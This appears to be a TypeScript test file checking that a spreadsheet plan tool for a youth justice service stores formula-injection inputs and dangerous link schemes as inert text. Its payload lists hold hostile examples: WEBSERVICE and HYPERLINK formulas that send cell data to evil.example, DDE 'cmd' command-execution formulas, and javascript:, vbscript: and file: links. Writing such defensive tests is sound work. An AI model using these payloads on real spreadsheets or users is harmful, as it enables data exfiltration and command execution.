/**
 * Formula injection (OWASP, "CSV Injection": cells that begin with =, +, -, @, a tab, a line break or the wide forms of
 * the signs). Each text would compute CANARY if a program took it for a formula. A plan is full of them, goes through
 * all that writes, and is saved; neither the file nor LibreOffice, which opens it, computes anything of it.
 */
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { proposeRollForward, publicationHtml } from "../../src/engine";
import { analyseWorkbook } from "../../src/excel/analyseWorkbook";
import { applyFixes } from "../../src/excel/applyFixes";
import { buildWorkbook } from "../../src/excel/buildWorkbook";
import { readSnapshot } from "../../src/excel/readSnapshot";
import { restoreLast } from "../../src/excel/restoreLast";
import { rollForward } from "../../src/excel/rollForward";
import { saveBoard } from "../../src/excel/saveBoard";
import { writePublication } from "../../src/excel/writePublication";
import { due, rag, status } from "../../src/functions/planFunctions";
import { openStandin, type Standin } from "../../src/standin/standin";
import { openMade } from "../excel/openMade";
import { readParts } from "../../src/standin/workbook/packageParts";
import { unescapedXml } from "../../src/standin/workbook/xmlText";

const AS_OF = "2027-03-20";
const CANARY = 40_002;
const SUM = "40000+2";
const PAYLOADS = [
  `=${SUM}`,
  `+${SUM}`,
  "-(-40000)+2",
  "@SUM(40000,2)",
  `\t=${SUM}`,
  `\r=${SUM}`,
  `\n=${SUM}`,
  ` =${SUM}`,
  `\uFF1D${SUM}`,
  `\uFF0B${SUM}`,
  `\uFF0D(-40000)+2`,
  `\uFF20SUM(40000,2)`,
  `=HYPERLINK("https://evil.example/?"&A1,${SUM})`,
  `=WEBSERVICE("https://evil.example/?"&A1)&${SUM}`,
  "=cmd|' /C calc'!A0",
  `-2+3+cmd|' /C calc'!A0`,
  `",=${SUM},"`,
  `';=${SUM}`,
  `{=${SUM}}`,
  `"&(${SUM})&"`,
] as const;

/** Where links of a plan may lead (OWASP, "Cross-Site Scripting Prevention": dangerous schemes). */
const LINKS = [
  "javascript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "file:///c:/windows/system32/cmd.exe",
  "https://evil.example/",
];

const HEADINGS = [
  "Ref",
  "Recommendation",
  "Action",
  "Lead",
  "Due date",
  "RAG",
  "Status",
  "Progress",
  "Outcome",
];

/** Each payload in each column, with the word "action" where a row has to be one. */
async function openPlan(): Promise<Standin> {
  const standin = await openMade((workbook) => {
    const sheet = workbook.addWorksheet("Plan 2026-27");
    sheet.addRow([`=${SUM} Thornbury Vale Youth Justice Service: improvement plan 2026-27`]);
    sheet.addRow(["PRIVATE & CONFIDENTIAL"]);
    sheet.addRow(HEADINGS).font = { bold: true };
    PAYLOADS.forEach((payload, index) =>
      sheet.addRow([
        index % 2 === 0 ? payload : String(index),
        payload,
        `${payload} write the policy`,
        payload,
        index % 3 === 0 ? payload : "July 2026",
        index % 4 === 0 ? payload : "Amber",
        index % 5 === 0 ? payload : "In progress",
        payload,
        payload,
      ]),
    );
    LINKS.forEach((hyperlink, index) => {
      const row = sheet.addRow([
        `L${index}`,
        "Links",
        `Follow link ${index}`,
        "Data Analyst",
        "July 2026",
        "Red",
      ]);
      row.getCell(8).value = { text: `See ${hyperlink}`, hyperlink };
    });
  });
  return standin;
}

/** All that writes into a workbook. Gives what boards see on the web, too. */
async function writeEverything(standin: Standin): Promise<string> {
  await buildWorkbook({ asOf: AS_OF });
  await saveBoard({ on: AS_OF, name: `=${SUM}` }, { asOf: AS_OF });
  const snapshot = await readSnapshot();
  await applyFixes(
    PAYLOADS.map((value, index) => ({
      at: { sheet: "Plan 2026-27", row: 3 + index, column: 7 },
      value: `${value} fixed`,
      label: "Write it out",
    })),
    snapshot,
    "Fixes",
  );
  await restoreLast();
  standin.typeInto("Action register", 4, 2, `'${PAYLOADS[0]} by hand`);
  await buildWorkbook({ asOf: AS_OF });
  const options = { withoutNames: false, contact: `=${SUM}`, nextUpdate: `@SUM(40000,2)` };
  await writePublication(options, { asOf: AS_OF });
  const analysis = await analyseWorkbook({ asOf: AS_OF });
  const choices = proposeRollForward(analysis).map(({ action, row, decision }, index) => ({
    action,
    text: row.text,
    decision: index % 2 === 0 ? ("superseded" as const) : decision,
    reason: PAYLOADS[index % PAYLOADS.length] ?? "",
  }));
  await rollForward(choices, { asOf: AS_OF });
  return publicationHtml(analysis, options);
}

let standin: Standin;
let page: string;
let saved: Uint8Array;
beforeAll(async () => {
  standin = await openPlan();
  page = await writeEverything(standin);
  saved = await standin.save();
}, 120_000);

test("everything was written, and the plan's texts are in it", () => {
  const names = standin.view().sheets.map(({ name }) => name);
  expect(names).toEqual(
    expect.arrayContaining([
      "Plan 2026-27",
      "Action register",
      "Board summary",
      "Plan checks",
      "Plan 2027-28",
    ]),
  );
  expect(names.length).toBeGreaterThanOrEqual(8);
  const texts = textsIn(standin);
  for (const payload of PAYLOADS) expect([...texts].some((text) => text.includes(payload.trim()))).toBe(true);
});

test("no cell, rule, choice, name or chart of the saved file computes anything of them", async () => {
  const parts = await readParts(saved, (name) =>
    /^xl\/(?:workbook|worksheets\/[^/]+|charts\/[^/]+)\.xml$/.test(name),
  );
  expect(parts.size).toBeGreaterThan(8);
  const formula = /<(?:\w+:)?(?:f|formula|formula1|formula2|definedName)\b[^>]*>([^<]*)</g;
  for (const [name, xml] of parts)
    for (const [, text = ""] of xml.matchAll(formula)) {
      const computed = unescapedXml(text).replace(/"(?:[^"]|"")*"/g, '""');
      expect(`${name} ${computed}`).not.toMatch(/40000|cmd\||WEBSERVICE|evil/i);
    }
});

test("no link of what is written leads out of the workbook; those of the plan are texts there", () => {
  const theirs = new Set(["Plan 2026-27", "Plan 2027-28"]);
  let links = 0;
  for (const sheet of standin.view().sheets.filter(({ name }) => !theirs.has(name)))
    for (let row = 0; row < sheet.rows; row++)
      for (let column = 0; column < sheet.columns; column++) {
        const link = sheet.cell(row, column)?.link;
        if (link === undefined) continue;
        links += 1;
        expect(link).toMatch(/^#/);
      }
  expect(links).toBeGreaterThan(PAYLOADS.length);
  const texts = [...textsIn(standin)];
  for (const link of LINKS) expect(texts.filter((text) => text.includes(link)).length).toBeGreaterThan(0);
});

test("no cell shows what they would compute", () => {
  expect(textsIn(standin)).not.toContain(String(CANARY));
});

test("in headers and footers an ampersand begins no code ([MS-OI29500] 2.1.619)", async () => {
  const parts = await readParts(saved, (name) => /^xl\/worksheets\/[^/]+\.xml$/.test(name));
  const lines = [...parts.values()].flatMap((xml) =>
    [...xml.matchAll(/<odd(?:Header|Footer)>([^<]*)</g)].map(([, line = ""]) => unescapedXml(line)),
  );
  const marked = lines.filter((line) => line.includes("PRIVATE"));
  expect(marked.length).toBeGreaterThan(2);
  for (const line of marked) expect(line).toContain("PRIVATE && CONFIDENTIAL");
});

test("the page for the web holds them as texts and leads nowhere", () => {
  for (const text of [`=${SUM}`, "javascript:alert(1)", "vbscript:msgbox(1)"]) expect(page).toContain(text);
  expect(page).not.toMatch(/<a\b|href=|src=|<script|<img|<iframe|<form/i);
});

test.each(PAYLOADS)("PLAN's functions give none of %j back", (payload) => {
  for (const work of [due, rag, status]) {
    let result: unknown = "";
    try {
      result = work(payload);
    } catch {
      // Refused, as anything is that is no date, rating or status.
    }
    expect(String(result)).not.toMatch(/^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]|40000|40002/);
  }
});

const withOffice = works("soffice") ? test : test.skip;
withOffice(
  "LibreOffice, which opens the file and writes it anew, computes none (skipped where it is not there)",
  async () => {
    const folder = mkdtempSync(join(tmpdir(), "injection-"));
    try {
      const file = join(folder, "plan.xlsx");
      writeFileSync(file, saved);
      execFileSync(
        "soffice",
        [
          `-env:UserInstallation=file://${join(folder, "profile")}`,
          ...["--headless", "--convert-to", "xlsx", "--outdir", join(folder, "out"), file],
        ],
        { stdio: "ignore" },
      );
      const anew = await openStandin(readFileSync(join(folder, "out", "plan.xlsx")), {
        fileName: "plan.xlsx",
      });
      const texts = textsIn(anew);
      expect(texts).not.toContain(String(CANARY));
      for (const payload of PAYLOADS)
        expect([...texts].some((text) => text.includes(payload.trim()))).toBe(true);
    } finally {
      rmSync(folder, { recursive: true });
    }
  },
  300_000,
);

/** What the cells of all visible sheets show. */
function textsIn(shown: Standin): ReadonlySet<string> {
  const texts = new Set<string>();
  for (const sheet of shown.view().sheets)
    for (let row = 0; row < sheet.rows; row++)
      for (let column = 0; column < sheet.columns; column++) texts.add(sheet.cell(row, column)?.text ?? "");
  return texts;
}

function works(command: string): boolean {
  try {
    execFileSync(command, ["--version"], { stdio: "ignore" });
    return true;
  } catch {
    return false;
  }
}
